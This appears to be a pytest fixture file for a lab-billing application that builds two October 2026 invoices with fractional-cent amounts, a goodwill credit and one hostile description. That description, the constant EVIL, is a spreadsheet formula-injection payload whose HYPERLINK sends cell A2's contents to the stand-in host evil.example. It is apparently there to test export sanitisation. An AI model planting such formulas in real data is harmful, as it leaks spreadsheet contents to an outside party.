"""Two invoices of October 2026 in the standing world's institution (Vision's grant, issued;
NLP's, a draft), built directly (the exports read invoices, they do not generate them), with
lines that carry a formula, a credit and fractions of a cent."""

import datetime as dt
from dataclasses import dataclass
from decimal import Decimal

import pytest

from labgov.core.money import to_cents
from labgov.core.periods import month_period
from labgov.invoicing.models import Invoice, InvoiceLine

MONTH = dt.date(2026, 10, 1)
EVIL = '=HYPERLINK("https://evil.example/?x="&A2,"Open")'


@dataclass
class Invoices:
    vision: Invoice
    nlp: Invoice


def make_invoice(
    source, *, lines, status="draft", number_seq=None, month=MONTH, allocation=None
) -> Invoice:
    start, end = month_period(month.year, month.month)
    exact = [Decimal(amount) for *_, amount, _ in lines]
    rounded = [to_cents(amount) for amount in exact]
    issued = status != "draft"
    # Lines are added to a draft, which is then issued (a trigger freezes issued invoices).
    invoice = Invoice.objects.create(
        institution=source.institution,
        funding_source=source,
        lab=source.lab,
        cost_center=source.cost_center,
        award_number=source.award_number,
        month=month,
        period_start=start,
        period_end=end,
        total_usd=sum(rounded),
        exact_total_usd=sum(exact),
    )
    InvoiceLine.objects.bulk_create(
        InvoiceLine(
            invoice=invoice,
            position=i,
            kind="credit" if Decimal(amount) < 0 else "usage",
            category="credit" if Decimal(amount) < 0 else category,
            description=description,
            quantity=quantity,
            unit="GPU-hour" if quantity is not None else "",
            unit_rate_usd=rate,
            exact_amount_usd=Decimal(amount),
            amount_usd=to_cents(Decimal(amount)),
            reconciled=reconciled,
            allocation=allocation,
            reason="goodwill" if Decimal(amount) < 0 else "",
            entered_by=source.lab.memberships.first().user if Decimal(amount) < 0 else None,
        )
        for i, (category, description, quantity, rate, amount, reconciled) in enumerate(lines)
    )
    if issued:
        Invoice.objects.filter(pk=invoice.pk).update(
            status=status,
            number_year=month.year,
            number_seq=number_seq,
            number=f"{month.year}-{number_seq:04d}",
            issued_at=dt.datetime(2026, 11, 2, tzinfo=dt.UTC),
        )
        invoice.refresh_from_db()
    return invoice


@pytest.fixture
def invoices(world) -> Invoices:
    vision = make_invoice(
        world.funding_source,
        status="issued",
        number_seq=1,
        lines=[
            ("gpu_compute", "pod train-1", Decimal("10.5"), Decimal("1.89"), "19.845", True),
            ("pod_disk", EVIL, None, None, "0.0001370000", True),
            ("network_standard", "vol shared", Decimal("720"), None, "5.0049999999", True),
            ("credit", "goodwill", None, None, "-2.50", True),
        ],
    )
    nlp = make_invoice(
        world.other_funding_source,
        lines=[("gpu_compute", "pod nlp-1", Decimal("3"), Decimal("2.49"), "7.47", False)],
    )
    return Invoices(vision=vision, nlp=nlp)
